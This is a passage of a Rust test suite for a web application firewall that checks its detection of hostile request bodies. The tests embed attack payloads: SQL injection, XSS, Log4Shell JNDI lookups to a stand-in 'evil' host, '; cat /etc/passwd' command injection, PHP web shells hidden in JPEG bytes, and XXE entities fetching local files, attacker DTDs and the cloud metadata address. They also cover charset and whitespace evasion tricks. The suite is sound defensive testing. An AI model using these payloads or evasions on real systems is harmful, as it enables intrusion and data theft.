            b"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>alert(1)</script>\r\n--XyZ--\r\n";
        let f = engine.inspect(&subject(&Method::POST, "/", &headers, body), &Switches::default());
        assert_eq!(f.map(|f| f.category), Some(Category::Xss));

        headers.insert("content-type", "application/xml".parse().unwrap());
        let body = b"<?xml version=\"1.0\"?><r><a p=\"x&amp;&amp;cat /etc/passwd\"/></r>";
        let f = engine.inspect(&subject(&Method::POST, "/", &headers, body), &Switches::default());
        assert!(f.is_some());
    }

    /// One multipart part (`head` lines, then `content`) on boundary `a`,
    /// with CRLF or bare LF line ends.
    fn one_part(head: &[&str], content: &[u8], crlf: bool) -> Vec<u8> {
        let nl: &[u8] = if crlf { b"\r\n" } else { b"\n" };
        let mut out = b"--a".to_vec();
        out.extend_from_slice(nl);
        for line in head {
            out.extend_from_slice(line.as_bytes());
            out.extend_from_slice(nl);
        }
        out.extend_from_slice(nl);
        out.extend_from_slice(content);
        out.extend_from_slice(nl);
        out.extend_from_slice(b"--a--");
        out.extend_from_slice(nl);
        out
    }

    const MULTIPART_A: &str = "multipart/form-data; boundary=a";

    /// A part without `filename` is a form field to PHP, Flask and cgi
    /// whatever its declared type: it is inspected as one.
    #[test]
    fn typed_multipart_fields_are_inspected_as_fields() {
        let payloads: [&[u8]; 5] = [
            b"' UNION SELECT password FROM users--",
            b"<script>alert(1)</script>",
            b"${jndi:ldap://evil/a}",
            b"127.0.0.1; cat /etc/passwd",
            b"\xff\xd8\xff\xe0 ' UNION SELECT password FROM users--",
        ];
        for ty in [
            "image/jpeg",
            "IMAGE/JPEG",
            "Image/Jpeg",
            "application/octet-stream",
            "application/pdf",
            "foo",
            "application/x-www-form-urlencoded",
            "multipart/mixed",
        ] {
            for header in ["Content-Type", "content-type", "CONTENT-TYPE"] {
                for crlf in [true, false] {
                    for payload in payloads {
                        let ct = format!("{header}: {ty}");
                        let part = one_part(&["Content-Disposition: form-data; name=\"q\"", &ct], payload, crlf);
                        assert!(
                            post_as(MULTIPART_A, &part).is_some(),
                            "{ct} {crlf} {}",
                            String::from_utf8_lossy(payload)
                        );
                    }
                }
            }
        }
        // White space before `=` names no `filename` to Werkzeug or cgi:
        // the part is a field to them, and is inspected as one.
        for space in ["\t", "\x0b", "\x0c", " "] {
            let disposition = format!("Content-Disposition: form-data; name=\"q\"; filename{space}=\"a.png\"");
            let part = one_part(&[&disposition, "Content-Type: image/png"], payloads[0], true);
            assert!(post_as(MULTIPART_A, &part).is_some(), "{space:?}");
        }
        // Benign look-alikes: plain words in a typed field, and a file
        // whose bytes are a picture's.
        for ty in ["image/jpeg", "application/octet-stream", "foo"] {
            let ct = format!("Content-Type: {ty}");
            let part = one_part(
                &["Content-Disposition: form-data; name=\"q\"", &ct],
                b"hello world",
                true,
            );
            assert_eq!(post_as(MULTIPART_A, &part), None, "{ty}");
        }
    }

    /// Files in a type the rules do not read are looked at for the code
    /// that acts on a file's contents whatever its type.
    #[test]
    fn code_in_files_of_any_type_is_found() {
        let jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00";
        let with_magic = |code: &[u8]| [&jpeg[..], code, b"\xff\xd9"].concat();
        let cases: Vec<(Vec<u8>, &str)> = vec![
            (
                b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(),
                "xss-markup-in-upload",
            ),
            (b"<svg/onload=alert(1)>".to_vec(), "xss-markup-in-upload"),
            (b"<SVG ONLOAD = alert(1)>".to_vec(), "xss-markup-in-upload"),
            (
                b"<svg><animate onbegin=alert(1) attributeName=x/></svg>".to_vec(),
                "xss-markup-in-upload",
            ),
            (b"<svg><ScRiPt>alert(1)</script></svg>".to_vec(), "xss-markup-in-upload"),
            (
                b"<a href=\"JavaScript:alert(1)\">x</a>".to_vec(),
                "xss-markup-in-upload",
            ),
            (with_magic(b"<?php system($_GET['c']); ?>"), "php-code-in-upload"),
            (with_magic(b"<?PhP eval($_POST[1]);"), "php-code-in-upload"),
            (b"<?= `id` ?>".to_vec(), "php-code-in-upload"),
            (b"${jndi:ldap://evil/a}".to_vec(), "java-jndi-in-upload"),
            (with_magic(b"${JNDI:ldap://evil/a}"), "java-jndi-in-upload"),
            (b"${${lower:j}ndi:ldap://evil/a}".to_vec(), "java-jndi-in-upload"),
        ];
        for ty in [
            "application/pdf",
            "image/jpeg",
            "IMAGE/PNG",
            "application/octet-stream",
            "foo",
        ] {
            for (content, rule) in &cases {
                for crlf in [true, false] {
                    let ct = format!("Content-Type: {ty}");
                    let head = ["Content-Disposition: form-data; name=\"f\"; filename=\"x.svg\"", &ct];
                    let part = one_part(&head, content, crlf);
                    assert_eq!(
                        post_as(MULTIPART_A, &part),
                        Some(*rule),
                        "{ty} {}",
                        String::from_utf8_lossy(content)
                    );
                }
            }
        }
        // Benign files: a picture, an SVG that runs nothing, a text file
        // that mentions handlers, and a short PHP opener in bytes that
        // are not text (compressed data spells one by chance).
        for content in [
            with_magic(b"\x12\x34 ordinary pixels \x00\x7f"),
            with_magic(b"<?=\x8f\x01"),
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><rect width=\"10\" height=\"10\" fill=\"red\"/></svg>".to_vec(),
            b"notes: the onload event fires once; see the docs".to_vec(),
        ] {
            let head = [
                "Content-Disposition: form-data; name=\"f\"; filename=\"x.svg\"",
                "Content-Type: application/octet-stream",
            ];
            assert_eq!(
                post_as(MULTIPART_A, &one_part(&head, &content, true)),
                None,
                "{}",
                String::from_utf8_lossy(&content)
            );
        }
    }

    /// Two `Content-Type` headers that differ at all, in case too
    /// (boundaries are case-sensitive): an app reading the last would
    /// read parts the WAF never saw. The same header twice passes.
    #[test]
    fn a_second_content_type_that_differs_is_refused() {
        let part = |boundary: &str| {
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' UNION SELECT password FROM users--\r\n--{boundary}--\r\n"
            )
        };
        let engine = Engine::new();
        let judge = |first: &'static str, second: &'static str, body: &str| {
            let mut headers = HeaderMap::new();
            headers.append(http::header::CONTENT_TYPE, http::HeaderValue::from_static(first));
            headers.append(http::header::CONTENT_TYPE, http::HeaderValue::from_static(second));
            let req = subject(&Method::POST, "/submit", &headers, body.as_bytes());
            engine.inspect(&req, &Switches::default()).map(|f| f.rule)
        };
        for (first, second) in [
            ("multipart/form-data; boundary=a", "multipart/form-data; boundary=A"),
            ("multipart/form-data; boundary=xy", "multipart/form-data; boundary=Xy"),
            ("multipart/form-data; boundary=a", "text/plain"),
            ("multipart/form-data; boundary=a", "multipart/form-data;  boundary=a"),
        ] {
            assert_eq!(
                judge(first, second, &part("A")),
                Some("protocol-conflicting-content-type"),
                "{second}"
            );
        }
        let benign = "--a\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nhello\r\n--a--\r\n";
        let same = "multipart/form-data; boundary=a";
        assert_eq!(judge(same, same, benign), None);
        assert!(judge(same, same, &part("a")).is_some(), "still inspected");
    }

    /// A parameter named twice: parsers disagree on which one counts.
    #[test]
    fn repeated_content_type_parameters_are_refused() {
        let part = one_part(
            &["Content-Disposition: form-data; name=\"q\""],
            b"' UNION SELECT password FROM users--",
            true,
        );
        let benign = one_part(&["Content-Disposition: form-data; name=\"q\""], b"hello", true);
        for ct in [
            "multipart/form-data; boundary=b; boundary=a",
            "multipart/form-data; boundary=b;boundary=a",
            "multipart/form-data; boundary=\"b\"; boundary=a",
            "multipart/form-data; boundary=b; boundary=\"a\"",
            "multipart/form-data;  boundary=b ;  BOUNDARY=a",
            "multipart/form-data; Boundary=a; boundary=a",
            "multipart/form-data; boundary=a; x=1; X=2",
            "text/plain; format=flowed; FORMAT=fixed",
        ] {
            assert_eq!(post_as(ct, &part), Some("protocol-duplicate-parameter"), "{ct}");
            assert_eq!(post_as(ct, &benign), Some("protocol-duplicate-parameter"), "{ct}");
        }
        for ct in [
            "multipart/form-data; boundary=a",
            "multipart/form-data; boundary=\"a\"; charset=utf-8",
        ] {
            assert_eq!(post_as(ct, &benign), None, "{ct}");
        }
        assert_eq!(post_as("text/plain; format=flowed; delsp=yes", b"hello"), None);
        assert!(!repeated_parameter("multipart/form-data; boundary=\"x;boundary=y\""));
        assert!(!repeated_parameter("multipart/form-data; boundary=\"x\"; b=1"));
        assert!(repeated_parameter("multipart/form-data; boundary=\"x;y\"; boundary=z"));
    }

    /// `constructor` holding a `prototype` is lodash-merge pollution at
    /// any depth and in any spelling JSON allows.
    #[test]
    fn constructor_prototype_in_json_is_pollution() {
        for doc in [
            r#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
            r#"{"user":{"constructor":{"prototype":{"isAdmin":true}}}}"#,
            r#"[{"a":[{"constructor":{"prototype":{"x":1}}}]}]"#,
            r#"{"\u0063onstructor":{"\u0070rototype":{"isAdmin":true}}}"#,
            r#"{ "constructor" : { "prototype" : { } } }"#,
            r#"{"Constructor":{"PROTOTYPE":{"isAdmin":1}}}"#,
            r#"{"constructor":{"name":"x","prototype":"y"}}"#,
        ] {
            for ct in [
                "application/json",
                "application/vnd.api+json",
                "application/json; charset=utf-8",
            ] {
                assert_eq!(
                    post_as(ct, doc.as_bytes()),
                    Some("nodejs-proto-pollution"),
                    "{ct} {doc}"
                );
            }
        }
        for doc in [
            r#"{"constructor":"Acme Ltd"}"#,
            r#"{"prototype":{"name":"v2","steps":3}}"#,
            r#"{"constructor":{"name":"Acme Ltd","country":"NL"}}"#,
            r#"{"company":{"constructor":"Acme","prototype":{"a":1}}}"#,
            r#"{"constructor":["prototype"]}"#,
        ] {
            assert_eq!(post_as("application/json", doc.as_bytes()), None, "{doc}");
        }
    }

    /// `1' UNION SELECT username,password FROM users--` as the form field
    /// `q`, in EBCDIC (cp037).
    const EBCDIC_FORM: &[u8] = b"\x98\x7e\xf1\x7d\x40\xe4\xd5\xc9\xd6\xd5\x40\xe2\xc5\xd3\xc5\xc3\xe3\x40\xa4\xa2\x85\x99\x95\x81\x94\x85\x6b\x97\x81\xa2\xa2\xa6\x96\x99\x84\x40\xc6\xd9\xd6\xd4\x40\xa4\xa2\x85\x99\xa2\x60\x60";
    /// `<?xml version="1.0" encoding="IBM037"?><a>` and the same, in cp037.
    const EBCDIC_XML: &[u8] = b"\x4c\x6f\xa7\x94\x93\x40\xa5\x85\x99\xa2\x89\x96\x95\x7e\x7f\xf1\x4b\xf0\x7f\x40\x85\x95\x83\x96\x84\x89\x95\x87\x7e\x7f\xc9\xc2\xd4\xf0\xf3\xf7\x7f\x6f\x6e\x4c\x81\x6e\xf1\x7d\x40\xe4\xd5\xc9\xd6\xd5\x40\xe2\xc5\xd3\xc5\xc3\xe3\x40\xa4\xa2\x85\x99\x95\x81\x94\x85\x6b\x97\x81\xa2\xa2\xa6\x96\x99\x84\x40\xc6\xd9\xd6\xd4\x40\xa4\xa2\x85\x99\xa2\x60\x60\x4c\x61\x81\x6e";

    /// A POST of `body` as `ct` (any header text), inspected.
    fn post_as(ct: &str, body: &[u8]) -> Option<&'static str> {
        let engine = Engine::new();
        let mut headers = HeaderMap::new();
        headers.insert(http::header::CONTENT_TYPE, ct.parse().unwrap());
        engine
            .inspect(&subject(&Method::POST, "/submit", &headers, body), &Switches::default())
            .map(|f| f.rule)
    }

    /// The protocol checks that read a header only when one is there and
    /// is text (`Accept`, `Accept-Encoding`, `Content-Length` are taken
    /// as text lazily): any case of the parameter is found; a value that
    /// is not text is never judged, as before.
    #[test]
    fn lazily_read_headers_are_judged_as_text_only() {
        let engine = Engine::new();
        let get = |pairs: &[(&str, &[u8])]| {
            let mut headers = HeaderMap::new();
            for (name, value) in pairs {
                let name = http::HeaderName::from_bytes(name.as_bytes()).unwrap();
                headers.append(name, http::HeaderValue::from_bytes(value).unwrap());
            }
            engine
                .inspect(&subject(&Method::GET, "/", &headers, b""), &Switches::default())
                .map(|f| f.rule)
        };
        for accept in [
            "text/html; charset=ibm037",
            "text/html;CHARSET=IBM037",
            "*/*, text/plain;Charset=utf-7",
        ] {
            assert_eq!(
                get(&[("accept", accept.as_bytes())]),
                Some("protocol-bad-charset"),
                "{accept}"
            );
        }
        assert_eq!(get(&[("accept", b"text/html; charset=utf-8")]), None);
        assert_eq!(get(&[("accept", b"text/html; charset=ibm037 \xe9")]), None, "not text");
        let long = "gzip, ".repeat(20);
        assert_eq!(
            get(&[("accept-encoding", long.as_bytes())]),
            Some("protocol-long-accept-encoding")
        );
        let mut not_text = long.into_bytes();
        not_text.push(0xe9);
        assert_eq!(get(&[("accept-encoding", &not_text)]), None, "not text");
        assert_eq!(get(&[("content-length", b"5")]), Some("protocol-get-with-body"));
        assert_eq!(get(&[("content-length", b" 0 ")]), None);
    }

    #[test]
    fn bodies_in_charsets_the_rules_cannot_read_are_refused() {
        for cs in [
            "ibm037",
            "IBM037",
            "cp037",
            "ibm500",
            "cp1026",
            "ebcdic-cp-us",
            "ibm01140",
            "cp875",
            "ibm273",
            "x-ebcdic-koreanextended",
            "\"IBM037\"",
            "utf-7",
            "utf-16",
            "utf-16le",
            "utf-32",
        ] {
            for mime in ["application/x-www-form-urlencoded", "application/json", "text/plain"] {
                for param in ["charset", "Charset", "CHARSET"] {
                    let ct = format!("{mime}; {param}={cs}");
                    assert_eq!(post_as(&ct, EBCDIC_FORM), Some("protocol-bad-charset"), "{ct}");
                }
            }
        }
        // The XML declaration, in ASCII or itself in EBCDIC, with or
        // without a charset on the Content-Type.
        let sqli = "<a>1' UNION SELECT username,password FROM users--</a>";
        for ct in [
            "application/xml",
            "text/xml",
            "application/soap+xml",
            "text/plain",
            "application/xml; charset=utf-8",
        ] {
            assert_eq!(post_as(ct, EBCDIC_XML), Some("protocol-bad-charset"), "{ct}");
            for decl in [
                "<?xml version=\"1.0\" encoding=\"IBM037\"?>",
                "<?xml version='1.0' encoding='ibm500'?>",
                "<?xml version=\"1.0\" encoding = \"cp1026\" standalone=\"yes\"?>",
                "\u{feff}<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
                "<?xml version=\"1.0\" encoding=x-ebcdic-koreanextended?>",
            ] {
                let body = format!("{decl}{sqli}");
                assert_eq!(
                    post_as(ct, body.as_bytes()),
                    Some("protocol-bad-charset"),
                    "{ct} {decl}"
                );
            }
        }
        // UTF-16 text (a byte order mark, or NUL bytes), which JSON and XML
        // parsers detect by themselves.
        let utf16le: Vec<u8> = "{\"q\":\"1' UNION SELECT 1--\"}"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        assert_eq!(post_as("application/json", &utf16le), Some("protocol-bad-charset"));
        let mut bom = vec![0xff, 0xfe];
        bom.extend(&utf16le);
        assert_eq!(post_as("text/plain", &bom), Some("protocol-bad-charset"));
        // A multipart part declaring one.
        let part = b"--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Type: text/plain; charset=IBM037\r\n\r\nx\r\n--XyZ--\r\n";
        assert_eq!(
            post_as("multipart/form-data; boundary=XyZ", part),
            Some("protocol-bad-charset")
        );
        let part = b"--XyZ\r\nContent-Disposition: form-data; name=\"d\"\r\nContent-Type: application/xml\r\n\r\n<?xml version=\"1.0\" encoding=\"ibm037\"?><a/>\r\n--XyZ--\r\n";
        assert_eq!(
            post_as("multipart/form-data; boundary=XyZ", part),
            Some("protocol-bad-charset")
        );
    }

    #[test]
    fn charsets_the_rules_read_pass() {
        for cs in [
            "utf-8",
            "UTF-8",
            "\"utf-8\"",
            "us-ascii",
            "iso-8859-1",
            "ISO-8859-15",
            "windows-1252",
            "latin1",
        ] {
            for mime in ["application/x-www-form-urlencoded", "application/json", "text/plain"] {
                let ct = format!("{mime}; charset={cs}");
                assert_eq!(post_as(&ct, b"{\"q\":\"union station\"}"), None, "{ct}");
            }
        }
        for decl in [
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
            "\u{feff}<?xml version=\"1.0\" encoding=\"utf-8\"?>",
            "<?xml version='1.0' encoding='ISO-8859-1'?>",
            "<?xml version=\"1.0\"?>",
            "",
        ] {
            let body = format!("{decl}<order><item>union station parking</item></order>");
            assert_eq!(post_as("application/xml", body.as_bytes()), None, "{decl}");
        }
        // Binary bodies are not text: their first bytes mean nothing.
        assert_eq!(post_as("application/octet-stream", b"\xff\xfe\x00\x00\x01"), None);
        assert_eq!(post_as("image/png", b"\x89PNG\r\n\x1a\n\x00\x00"), None);
        let part = b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhello\r\n--XyZ--\r\n";
        assert_eq!(post_as("multipart/form-data; boundary=XyZ", part), None);
    }

    #[test]
    fn xml_text_is_inspected_as_the_parser_reports_it() {
        let sqli = "1' UNION SELECT username,password FROM users--";
        let xss = "<script>alert(1)</script>";
        let dec = |s: &str| s.chars().map(|c| format!("&#{};", c as u32)).collect::<String>();
        let hex = |s: &str| s.chars().map(|c| format!("&#x{:x};", c as u32)).collect::<String>();
        let hex_upper = |s: &str| s.chars().map(|c| format!("&#X{:X};", c as u32)).collect::<String>();
        let bodies = [
            format!("<a>{sqli}</a>"),
            format!("<a>{}</a>", dec(sqli)),
            format!("<a>{}</a>", hex(sqli)),
            format!("<a>{}</a>", hex_upper(sqli)),
            format!("<a>{}</a>", dec(xss)),
            format!("<a>{}</a>", hex(xss)),
            format!("<a b=\"{}\"/>", dec(sqli)),
            // Split by CDATA, comments and processing instructions.
            "<a>1' UNI<![CDATA[ON SEL]]>ECT username,password FROM users--</a>".into(),
            "<a><![CDATA[1' UNION]]><![CDATA[ SELECT username,password FROM users--]]></a>".into(),
            "<a>1' UNI<!---->ON SEL<!---->ECT username,password FROM users--</a>".into(),
            "<a>1' UNI<!-- x -->ON SEL<?pi x?>ECT username,password FROM users--</a>".into(),
            "<a>&#49;&#39; UNI<![CDATA[ON]]> SEL<!---->ECT username,password FROM users--</a>".into(),
            "<a>&lt;scr<!---->ipt&gt;alert(1)&lt;/script&gt;</a>".into(),
            // A quote or `>` inside a comment hides nothing after it.
            format!("<r><!-- ' --><q>{sqli}</q></r>"),
            format!("<r><!-- a > b \" --><q>{sqli}</q><!-- \" --></r>"),
            // Left open: the rest is inspected.
            format!("<r><!-- {sqli}"),
            format!("<r><![CDATA[{sqli}"),
        ];
        for ct in ["application/xml", "text/xml"] {
            for body in &bodies {
                assert!(post_as(ct, body.as_bytes()).is_some(), "{ct}: {body}");
            }
        }
        for benign in [
            "<note><!-- draft --><title>Tom &amp; Jerry</title><body><![CDATA[Bring 2 < 3 apples]]> today</body></note>",
            "<order>\n  <!-- the usual -->\n  <item sku=\"42\">union station parking</item>\n  <?render fast?>\n</order>",
            "<p>O&#39;Brien &#x26; sons</p>",
        ] {
            assert_eq!(post_as("application/xml", benign.as_bytes()), None, "{benign}");
        }
    }

    /// A request as `engine` sees it: the rule that refuses it, if any.
    fn refused_by(
        engine: &Engine,
        method: &Method,
        target: &str,
        ct: Option<&str>,
        body: &[u8],
    ) -> Option<&'static str> {
        let mut headers = HeaderMap::new();
        if let Some(ct) = ct {
            headers.insert(http::header::CONTENT_TYPE, ct.parse().unwrap());
        }
        engine
            .inspect(&subject(method, target, &headers, body), &Switches::default())
            .map(|f| f.rule)
    }

    /// Every blank MSSQL, MySQL or a Unicode-aware parser reads as a
    /// space, percent-encoded in a query or a form, raw in a body, or
    /// `\uXXXX` in JSON, in place of the spaces of an injection: found
    /// as the same injection with spaces is.
    #[test]
    fn odd_blanks_between_words_hide_no_injection() {
        let engine = Engine::new();
        let blanks = [
            "%01",
            "%02",
            "%08",
            "%0e",
            "%0f",
            "%10",
            "%11",
            "%12",
            "%1a",
            "%1c",
            "%1d",
            "%1e",
            "%1f",
            "%a0",
            "%A0",
            "%85",
            "%c2%a0",
            "%C2%A0",
            "%c2%85",
            "%e3%80%80",
            "%e2%80%83",
            "%E2%80%80",
            "%e2%80%8a",
            "%e2%80%a8",
            "%e2%80%a9",
            "%e2%80%af",
            "%e2%81%9f",
            "%e1%9a%80",
            "%ef%bb%bf",
            "%2501",
            "%25c2%25a0",
        ];
        let attacks = ["x'_union_select_password_from_users--", "1'_or_1=1--"];
        for blank in blanks {
            for attack in attacks {
                let value = attack.replace('_', blank);
                let target = format!("/?id={value}");
                assert!(
                    refused_by(&engine, &Method::GET, &target, None, b"").is_some(),
                    "{target}"
                );
                let form = format!("id={value}");
                for ct in [
                    "application/x-www-form-urlencoded",
                    "application/x-www-form-urlencoded; charset=iso-8859-1",
                ] {
                    let found = refused_by(&engine, &Method::POST, "/submit", Some(ct), form.as_bytes());
                    assert!(found.is_some(), "{ct}: {form}");
                }
            }
        }
        // Raw bytes in a text body and `\u` escapes in JSON.
        for blank in ["\u{1}", "\u{1f}", "\u{a0}", "\u{3000}", "\u{2003}", "\u{feff}"] {
            let body = "1' union select password from users--".replace(' ', blank);
            let found = refused_by(&engine, &Method::POST, "/submit", Some("text/plain"), body.as_bytes());
            assert!(found.is_some(), "text: {body:?}");
        }
        for escape in ["\\u0001", "\\u00a0", "\\u00A0", "\\u3000", "\\u2003", "\\u0085"] {
            let json = "{\"id\":\"x' union select password from users--\"}".replace(' ', escape);
            let found = refused_by(
                &engine,
                &Method::POST,
                "/api",
                Some("application/json"),
                json.as_bytes(),
            );
            assert!(found.is_some(), "json: {json}");
        }
        // Latin-1 bytes of a form as sent, unencoded.
        let latin1 = b"id=1'\xa0or\xa01=1--";
        let found = refused_by(
            &engine,
            &Method::POST,
            "/submit",
            Some("application/x-www-form-urlencoded; charset=iso-8859-1"),
            latin1,
        );
        assert!(found.is_some());
    }

    /// Text that uses NBSP and other Unicode spaces as typography does
    /// (French `prix : 10 €`, thin spaces in numbers) is still text.
    #[test]
    fn typographic_spaces_in_text_are_not_attacks() {
        let engine = Engine::new();
        for value in [
            "prix%c2%a0:%c2%a010%c2%a0%e2%82%ac",
            "l%27%c3%a9t%c3%a9%c2%a0:%c2%a0%c2%ab%c2%a0oui%c2%a0%c2%bb",
            "1%e2%80%af000%e2%80%af000",
            "voil%c3%a0%20le%20menu",
            "caf%e9%a0cr%e8me",
            "select%c2%a0a%c2%a0size",
        ] {
            let target = format!("/?q={value}");
            assert_eq!(refused_by(&engine, &Method::GET, &target, None, b""), None, "{target}");
        }
        let json = "{\"note\":\"prix\\u00a0: 10\\u00a0\u{20ac}, l'\u{e9}t\u{e9}\u{a0}!\"}";
        assert_eq!(
            refused_by(
                &engine,
                &Method::POST,
                "/api",
                Some("application/json"),
                json.as_bytes()
            ),
            None
        );
    }

    /// A DOCTYPE that makes the XML parser fetch a file or URL (external
    /// DTD or entity, parameter entity) or expand entities into entities
    /// (billion laughs) is refused, in every XML type and spelling.
    #[test]
    fn xml_external_entities_and_entity_bombs_are_refused() {
        let engine = Engine::new();
        let external = [
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            "<!doctype a [<!entity x system \"file:///etc/passwd\">]><a>&x;</a>",
            "<!DocType a[<!EnTiTy x SyStEm 'file:///etc/passwd'>]><a>&x;</a>",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE\na\n[\n  <!ENTITY\tx\tSYSTEM\n\"file:///etc/passwd\" >\n]>\n<a>&x;</a>",
            "<!DOCTYPE a [<!ENTITY x PUBLIC \"-//A//B\" \"http://evil/x\">]><a>&x;</a>",
            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]><a/>",
            "<!DOCTYPE a [<!ENTITY %p SYSTEM \"http://evil/x.dtd\">%p;]><a/>",
            "<!DOCTYPE a [<!-- > --><!ENTITY x SYSTEM \"http://169.254.169.254/\">]><a>&x;</a>",
            "<!DOCTYPE a SYSTEM \"http://evil/x.dtd\"><a/>",
            "<!DOCTYPE a PUBLIC \"-//W3C//DTD x//EN\" \"http://evil/x.dtd\"><a/>",
            "\u{feff}<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>",
            "<a/><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">",
        ];
        let bombs = [
            "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">\
             <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>",
            "<!doctype l [<!entity a 'aaaa'><!entity b '&a;&a;'>]><l>&b;</l>",
        ];
        // What follows a DOCTYPE is still read, however its subset is
        // written; one left open is read to the end.
        for body in [
            "<!DOCTYPE a [<!-- it's -->]><a>1' union select password from users--</a>",
            "<!DOCTYPE a [<!ELEMENT a ANY>]><a>1' union select password from users--</a>",
            "<!DOCTYPE a [<!-- ' --><a>1' union select password from users--</a>",
        ] {
            let found = refused_by(
                &engine,
                &Method::POST,
                "/soap",
                Some("application/xml"),
                body.as_bytes(),
            );
            assert!(
                found.is_some_and(|r| r.starts_with("sqli") || r.starts_with("libinjection")),
                "{body}: {found:?}"
            );
        }
        for ct in [
            "application/xml",
            "text/xml",
            "application/soap+xml",
            "application/xml; charset=utf-8",
        ] {
            for body in external {
                let found = refused_by(&engine, &Method::POST, "/soap", Some(ct), body.as_bytes());
                assert_eq!(found, Some("xxe-external-entity"), "{ct}: {body}");
            }
            for body in bombs {
                let found = refused_by(&engine, &Method::POST, "/soap", Some(ct), body.as_bytes());
                assert_eq!(found, Some("xxe-entity-expansion"), "{ct}: {body}");
            }
        }
    }

    /// XML without a DOCTYPE, a DOCTYPE naming only the root, the W3C's
    /// own public DTDs and an internal entity of plain text all pass.
    #[test]
    fn xml_without_external_entities_passes() {
        let engine = Engine::new();
        for (ct, body) in [
            (
                "application/soap+xml",
                "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\">\
                 <soap:Body><m:GetPrice xmlns:m=\"https://example.org/prices\"><m:Item>Apples</m:Item></m:GetPrice>\
                 </soap:Body></soap:Envelope>",
            ),
            (
                "application/rss+xml",
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>News</title>\
                 <link>https://example.org/</link><description>System and public news</description>\
                 <item><title>Entity &amp; more</title><link>https://example.org/1</link></item></channel></rss>",
            ),
            (
                "image/svg+xml",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/></svg>",
            ),
            (
                "application/xhtml+xml",
                "<!DOCTYPE html><html><body><p>system public</p></body></html>",
            ),
            ("application/xml", "<!doctype note><note>hello</note>"),
            (
                "application/xhtml+xml",
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \
                 \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html><body><p>hi</p></body></html>",
            ),
            (
                "application/xml",
                "<!DOCTYPE a [<!ENTITY company \"ACME &amp; Co &#169;\"><!ELEMENT a (#PCDATA)>]><a>&company;</a>",
            ),
            // Names that are keywords elsewhere, and a comment with a quote.
            (
                "application/xml",
                "<!DOCTYPE system [<!ENTITY public \"p\"><!-- it's > -->]><system>&public;</system>",
            ),
        ] {
            assert_eq!(
                refused_by(&engine, &Method::POST, "/feed", Some(ct), body.as_bytes()),
                None,
                "{body}"
            );
        }
    }
}
